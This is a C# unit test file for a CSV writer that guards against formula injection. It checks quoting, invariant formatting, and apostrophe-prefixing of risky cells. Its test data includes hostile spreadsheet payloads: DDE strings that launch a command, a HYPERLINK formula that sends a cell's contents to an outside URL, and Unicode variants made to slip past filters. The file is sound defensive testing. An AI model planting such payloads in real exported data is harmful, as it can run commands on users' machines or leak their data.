using System.Text;
using CsCheck;
using Simulation.Library.Exports;
using Sylvan.Data.Csv;

namespace Simulation.Domain.Tests.Library;

public sealed class SafeCsvTests
{
    [Fact]
    public void Records_end_as_the_standard_says_and_only_what_needs_it_is_quoted() =>
        Assert.Equal(
            "name,note\r\nҚасымова Әсел,\"a, b\"\r\n\"say \"\"no\"\"\",\"two\r\nlines\"\r\n",
            new SafeCsv().Row("name", "note").Row("Қасымова Әсел", "a, b").Row("say \"no\"", "two\r\nlines").ToString());

    [Fact]
    public void Numbers_dates_and_nothing_are_written_invariantly() =>
        Assert.Equal(
            "-5;0.25;-1.5;true;2026-11-23T10:00:00+05:00;2026-11-23;\r\n",
            new SafeCsv(';').Row(-5, 0.25m, -1.5, true, new DateTimeOffset(2026, 11, 23, 10, 0, 0, TimeSpan.FromHours(5)), new DateOnly(2026, 11, 23), null).ToString());

    [Fact]
    public void The_file_begins_with_a_byte_order_mark() =>
        Assert.Equal([0xEF, 0xBB, 0xBF, (byte)'a', 13, 10], new SafeCsv().Row("a").ToBytes());

    [Theory]
    [InlineData("=1+1")]
    [InlineData("=HYPERLINK(\"https://example.org?x=\"&A1;\"here\")")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("+77011234567")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    [InlineData("＝1+1")]
    [InlineData("＋1")]
    [InlineData("－1")]
    [InlineData("＠SUM(1)")]
    [InlineData("  =1+1")]
    [InlineData("\u00A0=1+1")]
    [InlineData("\u200B=1+1")]
    [InlineData("\uFEFF=1+1")]
    [InlineData("-")]
    public void A_text_that_could_be_a_formula_gets_an_apostrophe(string text) => Assert.Equal("'" + text, ReadBack(new SafeCsv().Row(text))[0]);

    [Theory]
    [InlineData("Ли Ян")]
    [InlineData("МО-21")]
    [InlineData("a=b")]
    [InlineData("1 + 1")]
    [InlineData("'quoted'")]
    [InlineData("")]
    public void Any_other_text_stays_as_it_is(string text) => Assert.Equal(text, ReadBack(new SafeCsv().Row(text, "x"))[0]);

    [Fact]
    public void Whatever_is_written_is_read_back_and_never_a_formula() =>
        Gen.Select(Gen.String[Gen.Char["=+-@\t\r\n,;\"' aЖ＝\u200B"], 0, 12].Array[1, 5], Gen.Bool).Sample(
            (cells, semicolon) =>
            {
                var separator = semicolon ? ';' : ',';
                var read = ReadBack(new SafeCsv(separator).Row(cells.Append("end")), separator);
                Assert.Equal(cells.Length + 1, read.Length);
                Assert.All(cells.Zip(read), c => Assert.True(c.Second == c.First || c.Second == "'" + c.First));
                Assert.DoesNotContain(read, c => c.Trim(' ', '\u200B') is ['=' or '+' or '-' or '@' or '＝', ..]);
            },
            iter: 3_000);

    private static string[] ReadBack(SafeCsv csv, char separator = ',')
    {
        var text = Encoding.UTF8.GetString(csv.ToBytes()).TrimStart('\uFEFF');
        using var reader = CsvDataReader.Create(new StringReader(text), new CsvDataReaderOptions { HasHeaders = false, Delimiter = separator, Comment = '\0' });
        Assert.True(reader.Read());
        return [.. Enumerable.Range(0, reader.RowFieldCount).Select(reader.GetString)];
    }
}
